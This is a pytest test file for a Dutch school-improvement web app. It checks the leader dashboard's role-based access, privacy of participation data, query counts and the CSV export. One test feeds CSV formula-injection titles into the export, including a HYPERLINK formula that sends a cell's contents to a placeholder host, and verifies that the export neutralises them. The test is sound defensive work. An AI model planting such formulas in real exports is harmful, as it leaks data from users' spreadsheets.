"""The leader's dashboard, the team overview and the exports."""

import csv
import io
import re

import pytest
from django.urls import reverse

from inquiries.models import Entry, Initiative, LearningCard
from inquiries.services import add_entry, change_state, join_initiative
from reflections.models import Reflection
from tests.factories import MembershipFactory, UserFactory, start_test_initiative
from tests.helpers import HTMX, assert_fragment, text


@pytest.mark.parametrize(
    "persona,status", [("leader", 200), ("admin", 200), ("lead", 403), ("teacher", 403)]
)
def test_only_the_leader_and_the_admin_open_the_dashboard(world, client_for, persona, status):
    client = client_for(getattr(world, persona))
    assert client.get(reverse("dashboard:leader_dashboard")).status_code == status
    assert client.get(reverse("dashboard:export_csv")).status_code == status


def test_the_admin_sees_the_dashboard_read_only(world, client_for):
    initiative = start_test_initiative(starter=world.teacher, team=world.team)
    change_state(initiative=initiative, user=world.teacher, action="start")
    from inquiries.models import SupportRequest
    from inquiries.services import request_support

    request_support(
        initiative=initiative,
        requested_by=world.teacher,
        request=SupportRequest(kind="time", what="Een middag"),
        submission_key="s",
    )
    admin_page = text(client_for(world.admin).get(reverse("dashboard:leader_dashboard")))
    assert "Een middag" in admin_page and "Antwoord versturen" not in admin_page
    leader_page = text(client_for(world.leader).get(reverse("dashboard:leader_dashboard")))
    assert "Antwoord versturen" in leader_page


def test_another_school_sees_nothing_of_this_one(world, client_for):
    initiative = start_test_initiative(starter=world.teacher, team=world.team, title="Van De Linde")
    change_state(initiative=initiative, user=world.teacher, action="start")
    client = client_for(world.outsider)
    assert "Van De Linde" not in text(client.get(reverse("dashboard:leader_dashboard")))
    assert client.get(reverse("dashboard:team_overview", args=[world.team.pk])).status_code == 404


def test_participation_shows_shares_never_names_and_small_teams_not_at_all(world, client_for):
    for _ in range(3):
        MembershipFactory(team=world.team, user=UserFactory(school=world.school))
    # The middenbouw now has 6 people; the teacher is in an initiative.
    initiative = start_test_initiative(starter=world.teacher, team=world.team)
    change_state(initiative=initiative, user=world.teacher, action="start")
    body = text(client_for(world.leader).get(reverse("dashboard:leader_dashboard")))
    participation = body.split('id="participation-title"')[1].split("</section>")[0]
    assert "17%" in participation  # 1 of 6
    assert "te klein om te tonen" in participation  # the bovenbouw has 1 person
    for person in [world.teacher, world.colleague, world.lead, world.other_lead]:
        assert person.name not in participation


def test_private_reflections_are_counted_nowhere(world, client_for):
    client = client_for(world.leader)

    def page():
        html = text(client.get(reverse("dashboard:leader_dashboard")))
        # CSRF tokens and CSP nonces differ per request; everything else must be equal.
        return re.sub(r"[A-Za-z0-9_\-]{22,}", "", html)

    before = page()
    Reflection.objects.create(
        school=world.school, author=world.teacher, title="Geheim", proud_of="x"
    )
    assert page() == before


def test_the_dashboard_flags_an_overdue_initiative_and_filters_by_team(world, client_for):
    late = start_test_initiative(starter=world.teacher, team=world.team, title="Te laat")
    change_state(initiative=late, user=world.teacher, action="start")
    Initiative.objects.filter(pk=late.pk).update(phase_due_on="2020-01-06")
    other = start_test_initiative(
        starter=world.other_lead, team=world.other_team, title="Bovenbouwwerk"
    )
    change_state(initiative=other, user=world.other_lead, action="start")
    client = client_for(world.leader)
    body = text(client.get(reverse("dashboard:leader_dashboard")))
    stuck = body.split('id="stuck-title"')[1].split("</section>")[0]
    assert "Te laat" in stuck and "te laat sinds 6 januari" in stuck
    fragment = client.get(
        reverse("dashboard:leader_dashboard"), {"team": world.other_team.pk}, **HTMX
    )
    assert_fragment(fragment, "dashboard-body")
    assert "Bovenbouwwerk" in text(fragment) or "Bovenbouw" in text(fragment)
    assert "Te laat" not in text(fragment)


def test_measurements_are_grouped_by_shared_goal(world, client_for):
    from tests.factories import SharedGoalFactory

    goal = SharedGoalFactory(school=world.school, title="Leesmotivatie")
    initiative = start_test_initiative(starter=world.teacher, team=world.team, goals=[goal])
    change_state(initiative=initiative, user=world.teacher, action="start")
    add_entry(
        initiative=initiative,
        author=world.teacher,
        submission_key="m",
        entry=Entry(
            kind="measurement", measure="Leest graag", unit="percent", baseline=35, result=60
        ),
    )
    body = text(client_for(world.leader).get(reverse("dashboard:leader_dashboard")))
    learning = body.split('id="learning-title"')[1].split("</section>")[0]
    assert "Leesmotivatie" in learning and "35%" in learning and "60%" in learning


@pytest.mark.parametrize(
    "url_name,args,pinned",
    [("dashboard:leader_dashboard", [], 12), ("dashboard:team_overview", ["team"], 5)],
)
def test_the_dashboard_and_overview_use_a_fixed_number_of_queries(
    world, client_for, django_assert_num_queries, url_name, args, pinned
):
    client = client_for(world.leader)

    def add(n):
        for i in range(n):
            for team, starter in (
                (world.team, world.teacher),
                (world.other_team, world.other_lead),
            ):
                initiative = start_test_initiative(starter=starter, team=team, title=f"I{i}")
                change_state(initiative=initiative, user=starter, action="start")
                join_initiative(initiative=initiative, user=world.lead)
                add_entry(
                    initiative=initiative,
                    author=starter,
                    submission_key=f"k{i}",
                    entry=Entry(kind="measurement", measure="m", unit="number", baseline=1),
                )

    url = reverse(url_name, args=[getattr(world, a).pk for a in args])
    for size in (3, 27):
        add(size)
        with django_assert_num_queries(pinned):
            assert client.get(url).status_code == 200


def test_the_csv_opens_in_a_spreadsheet_with_dutch_characters_intact(world, client_for):
    initiative = start_test_initiative(
        starter=world.teacher, team=world.team, title="Creëren met één idee"
    )
    change_state(
        initiative=initiative,
        user=world.teacher,
        action="stop",
        card=LearningCard(learned="Kinderen waren enthousiast: ‘geweldig’ — zeiden ze."),
    )
    response = client_for(world.leader).get(reverse("dashboard:export_csv"))
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    raw = response.content
    assert raw.startswith("\ufeff".encode())  # Excel reads UTF-8 only with this mark
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][:2] == ["soort", "titel"]
    titles = [row[1] for row in rows[1:]]
    assert "Creëren met één idee" in titles
    assert any("‘geweldig’ —" in cell for row in rows for cell in row)


@pytest.mark.parametrize(
    "title", ["=1+1", '=HYPERLINK("http://x.example/?"&A1;"Klik")', "+31 6", "-2", "@SUM(A1)"]
)
def test_a_title_that_looks_like_a_formula_stays_text_in_the_export(world, client_for, title):
    initiative = start_test_initiative(starter=world.teacher, team=world.team, title=title)
    change_state(
        initiative=initiative, user=world.teacher, action="stop", card=LearningCard(learned="=2+2")
    )
    response = client_for(world.leader).get(reverse("dashboard:export_csv"))
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    cells = [cell for row in rows[1:] for cell in row]
    # A spreadsheet shows a cell that starts with an apostrophe as the text after it.
    assert "'" + title in cells and "'=2+2" in cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


def test_team_overview_is_for_the_teams_lead_and_the_leader(world, client_for):
    url = reverse("dashboard:team_overview", args=[world.team.pk])
    assert client_for(world.lead).get(url).status_code == 200
    assert client_for(world.leader).get(url).status_code == 200
    assert client_for(world.other_lead).get(url).status_code == 403
    assert client_for(world.teacher).get(url).status_code == 403
